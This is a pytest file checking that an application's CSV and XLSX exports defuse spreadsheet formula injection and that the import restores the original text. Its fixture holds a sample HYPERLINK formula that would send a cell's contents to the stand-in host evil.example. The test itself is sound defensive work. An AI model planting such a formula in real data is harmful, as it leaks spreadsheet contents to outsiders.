"""Exports never hand a spreadsheet a formula: every text cell starting with = + - @ or a tab is
neutralised in CSV and XLSX, and our import reads the typed text back. Issue 12."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from opshelp import PASSWORD, USER, make_store

from app.services import export, residents
from app.services.import_table import read_rows
from app.store import Store

ADDRESS = '=HYPERLINK("http://evil.example/?q="&A2,"点我")'
HOUSEHOLD = "@SUM(1+1)"


@pytest.fixture
def store(tmp_path: Path):  # type: ignore[no-untyped-def]
    make_store(tmp_path / "data").close()
    s = Store.open(tmp_path / "data", USER, PASSWORD)
    residents.add(s, {"name": "李秀英", "sex": "2", "birth_date": "1949-12-31", "address": ADDRESS,
                      "household": HOUSEHOLD})  # fmt: skip
    yield s
    s.close()


def test_csv_cells_are_neutralised_and_read_back(store, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    export.export(store, out, "csv")
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["address"] == "'" + ADDRESS
    assert rows[0]["household"] == "'" + HOUSEHOLD
    starts = [v[:1] for row in rows for v in row.values() if v]
    assert not set(starts) & set("=+-@\t\r")
    [row], _ = read_rows(out)
    assert row.data["address"] == ADDRESS


def test_xlsx_has_no_formula_cell(store, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    export.export(store, out, "xlsx")
    wb = load_workbook(out)
    cells = [c for row in wb.worksheets[0].iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert "'" + ADDRESS in [c.value for c in cells]
    [row], _ = read_rows(out)
    assert row.data["address"] == ADDRESS
